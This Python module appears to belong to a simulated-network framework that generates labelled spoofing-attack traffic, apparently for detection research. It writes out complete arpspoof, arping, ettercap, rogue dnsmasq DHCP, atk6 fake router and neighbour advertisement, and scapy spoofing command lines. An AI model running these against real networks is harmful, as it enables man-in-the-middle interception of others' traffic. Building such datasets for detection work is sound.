"""A station that says it is another: a neighbour, a router, or the one who gives out addresses."""

import ipaddress

from attacks.aim import has_ipv6
from attacks.attack import SCRATCH, Campaign, Rule, attack
from attacks.steps import program, tool

_ALL_NODES = "ff02::1"
_BROADCAST = "255.255.255.255"


def _neighbours(world):
    """The clients of the insider's own segment."""
    return [client for client in world.clients if client.vlan == world["insider"].vlan]


def link_local(mac):
    """The address that a station gives itself."""
    octets = bytes.fromhex(mac.replace(":", ""))
    interface = bytes([octets[0] ^ 2]) + octets[1:3] + b"\xff\xfe" + octets[3:]
    return str(ipaddress.IPv6Address(b"\xfe\x80" + bytes(6) + interface))


def _pair(chance, world):
    """A client, and with whom it talks: the gateway mostly, or a server beside it."""
    victim = chance.choice(_neighbours(world))
    near = [host.ip for host in world.with_role("server") if host.vlan == victim.vlan]
    return victim, chance.choice([victim.gateway4, victim.gateway4, *near])


def _passing_on(insider, on):
    """What it gets by its lies it passes on, without telling the sender of a shorter way."""
    settings = (f"net.ipv4.ip_forward={on}", *(f"net.ipv4.conf.{link}.send_redirects=0" for link in ("all", "eth0")))
    return tool(insider, "sysctl", "-qw", *settings, seconds=3)


def _arp_campaign(world, victim, other, steps, least):
    insider = world["insider"]
    both = f"{victim.ip};{other}"
    # Some of the tools find out a station's MAC address by a datagram to it.
    rules = (Rule(insider.ip, both, proto="arp", mac=insider.mac), Rule(insider.ip, both))
    around = (_passing_on(insider, 1), *steps, _passing_on(insider, 0))
    return Campaign(around, rules, (insider.ip,), (victim.ip, other), least_packets=least)


@attack("spoofing", "ARPSpoof", "arpspoof", "both-ways")
def arpspoof_between(chance, world):
    """Between two stations; in the end it tells both the truth again."""
    insider = world["insider"]
    victim, other = _pair(chance, world)
    seconds = chance.randint(12, 40)
    one = f"arpspoof -i eth0 -c {chance.choice(('own', 'host', 'both'))}"
    line = f"{one} -t {victim.ip} {other} & p=$!; {one} -t {other} {victim.ip} & q=$!; sleep {seconds}"
    step = tool(insider, "sh", "-c", f"{line}; kill -TERM $p $q; wait", seconds=seconds + 14, good=(0, 143, None))
    return _arp_campaign(world, victim, other, [step], 10)


@attack("spoofing", "ARPSpoof", "arpspoof", "one-way")
def arpspoof_victim(chance, world):
    """Only the client is told, again and again."""
    insider = world["insider"]
    victim, other = _pair(chance, world)
    seconds = chance.randint(10, 40)
    line = f"arpspoof -i eth0 -t {victim.ip} {other} & p=$!; sleep {seconds}; kill -TERM $p; wait"
    step = tool(insider, "sh", "-c", line, seconds=seconds + 14, good=(0, 143, None))
    return _arp_campaign(world, victim, other, [step], 5)


@attack("spoofing", "ARPSpoof", "arpspoof", "everybody")
def arpspoof_everybody(chance, world):
    """Tells the whole segment that it is the gateway."""
    insider = world["insider"]
    gateway = insider.gateway4
    seconds = chance.randint(10, 30)
    line = f"arpspoof -i eth0 {gateway} & p=$!; sleep {seconds}; kill -TERM $p; wait"
    step = tool(insider, "sh", "-c", line, seconds=seconds + 14, good=(0, 143, None))
    victim = _neighbours(world)[0]
    return _arp_campaign(world, victim, gateway, [step], 5)


@attack("spoofing", "ARPSpoof", "arping", "unasked")
def arping_announcements(chance, world):
    """Announces another's address as its own, as a machine that has just got it would."""
    insider = world["insider"]
    victim, other = _pair(chance, world)
    taken = chance.choice((victim.ip, other))
    count = chance.randint(8, 30)
    how = chance.choice(("-U", "-A"))
    # A station may send with a foreign address only where that is set.
    line = "sysctl -qw net.ipv4.ip_nonlocal_bind=1 &&"
    line += f" arping {how} -q -c {count} -i eth0 -S {taken} {taken}; sysctl -qw net.ipv4.ip_nonlocal_bind=0"
    return _arp_campaign(world, victim, other, [tool(insider, "sh", "-c", line, seconds=count + 10)], 5)


@attack("spoofing", "RogueDHCP", "dnsmasq", "dhcp")
def rogue_dhcp(chance, world):
    """A second server that gives itself out as gateway and resolver, while a few clients ask."""
    insider = world["insider"]
    network = ipaddress.ip_network(f"{insider.ip}/24", strict=False)
    askers = chance.sample(_neighbours(world), min(len(_neighbours(world)), chance.randint(1, 3)))
    serve = (
        "dnsmasq",
        "--no-daemon",
        "--conf-file=/dev/null",
        "--port=0",
        "--user=root",
        "--interface=eth0",
        "--no-ping",
    )
    serve += ("--bind-interfaces", f"--pid-file={SCRATCH}/pid", f"--dhcp-leasefile={SCRATCH}/leases", "--log-dhcp")
    serve += (f"--dhcp-range={network[251]},{network[253]},{chance.choice(('2m', '10m', '1h'))}",)
    serve += (f"--dhcp-option=3,{insider.ip}", f"--dhcp-option=6,{insider.ip}")
    if chance.random() < 0.6:
        serve += ("--dhcp-authoritative",)
    steps = [tool(insider, *serve, background=True, good=(0, None))]
    for number in range(chance.randint(3, 7)):
        asker = chance.choice(askers)
        ask = (
            "udhcpc",
            "-i",
            "eth0",
            "-n",
            "-q",
            "-f",
            "-s",
            "/bin/true",
            "-t",
            3,
            "-T",
            2,
            "-p",
            f"{SCRATCH}/ask{number}",
        )
        pause = round(chance.uniform(1, 3), 1)
        steps.append(tool(asker, *ask, pause=pause, seconds=5, good=(0, 1, None)))
    rule = Rule(insider.ip, f"{network};{_BROADCAST}", "68", "udp")
    victims = tuple(asker.ip for asker in askers)
    return Campaign(tuple(steps), (rule,), (insider.ip,), victims, least_packets=2)


@attack("spoofing", "RogueRA", "atk6-fake_router26", "router", fits=has_ipv6)
def rogue_router(chance, world):
    """Says that it is a router; for seconds only, so that nobody believes it for longer."""
    insider = world["insider"]
    prefix = f"fd{chance.randrange(256):02x}:{chance.randrange(0x10000):x}::/64"
    every, count = chance.randint(1, 4), chance.randint(6, 14)
    words = ["atk6-fake_router26", "-A", prefix, "-a", 30, "-l", chance.choice((0, 5, 20)), "-n", count, "-i", every]
    words += ["-D", insider.ip6, "-d", 10] if chance.random() < 0.5 else []
    words += ["-p", chance.choice(("low", "medium", "high")), "eth0"]
    step = tool(insider, *words, seconds=57, good=(0, 1, None))
    return _neighbour_campaign(world, step, link_local(insider.mac), least=5)


@attack("spoofing", "NeighbourSpoof", "atk6-fake_advertise6", "neighbour", fits=has_ipv6)
def false_advertisements(chance, world):
    """Says that another's IPv6 address is its own."""
    insider = world["insider"]
    victim = chance.choice(_neighbours(world))
    taken = chance.choice([host.ip6 for host in _neighbours(world) if host != victim] + [insider.gateway6] * 3)
    every, count = chance.randint(1, 3), chance.randint(8, 16)
    words = ("atk6-fake_advertise6", "-n", count, "-w", every, *chance.choice(((), ("-r",), ("-s",))), "eth0", taken)
    step = tool(insider, *words, victim.ip6, insider.mac, insider.ip6, seconds=57, good=(0, 1, None))
    return _neighbour_campaign(world, step, insider.ip6, to=victim.ip6, least=5)


def _neighbour_campaign(world, step, source, to=_ALL_NODES, least=5):
    rules = (Rule(source, to, proto="icmp"),)
    victims = tuple(client.ip6 for client in _neighbours(world)) if to == _ALL_NODES else (to,)
    return Campaign((step,), rules, (source,), victims, least_packets=least)


@attack("spoofing", "ARPSpoof", "ettercap", "both-ways")
def ettercap_between(chance, world):
    insider = world["insider"]
    victim, other = _pair(chance, world)
    seconds = chance.randint(15, 35)
    # With IPv6 built in, a target is MAC/IPv4/IPv6/ports.
    words = ("ettercap", "-T", "-q", "-i", "eth0", "-M", "arp:remote", f"/{victim.ip}//", f"/{other}//")
    line = f"(sleep {seconds}; echo q; sleep 6) | " + " ".join(words)
    step = tool(insider, "sh", "-c", line, seconds=seconds + 14, good=(0, None))
    return _arp_campaign(world, victim, other, [step], 8)


@attack("spoofing", "ARPSpoof", "scapy-spoof", "answers")
def scapy_answers(chance, world):
    """Answers that nobody asked for, at uneven intervals, to one or to both."""
    insider = world["insider"]
    victim, other = _pair(chance, world)
    words = (
        "arp",
        "--mine",
        insider.mac,
        "--pairs",
        f"{victim.ip}={other}" + (f",{other}={victim.ip}" * chance.randint(0, 1)),
    )
    words += ("--period", round(chance.uniform(0.3, 3), 1), "--seconds", chance.randint(12, 40))
    words += ("--operation", chance.choice((1, 2)), "--seed", chance.randrange(1 << 30))
    return _arp_campaign(world, victim, other, [program(insider, "scapy_spoof", *words, seconds=54)], 8)


@attack("spoofing", "RogueRA", "scapy-spoof", "router", fits=has_ipv6)
def scapy_router(chance, world):
    insider = world["insider"]
    source = link_local(insider.mac)
    words = (
        "router",
        "--mine",
        insider.mac,
        "--source",
        source,
        "--prefix",
        f"2001:db8:{chance.randrange(0x10000):x}::",
    )
    words += ("--period", round(chance.uniform(0.8, 4), 1), "--seconds", chance.randint(12, 40))
    words += ("--lifetime", chance.choice((0, 5, 15)), "--seed", chance.randrange(1 << 30))
    return _neighbour_campaign(world, program(insider, "scapy_spoof", *words, seconds=54), source, least=5)
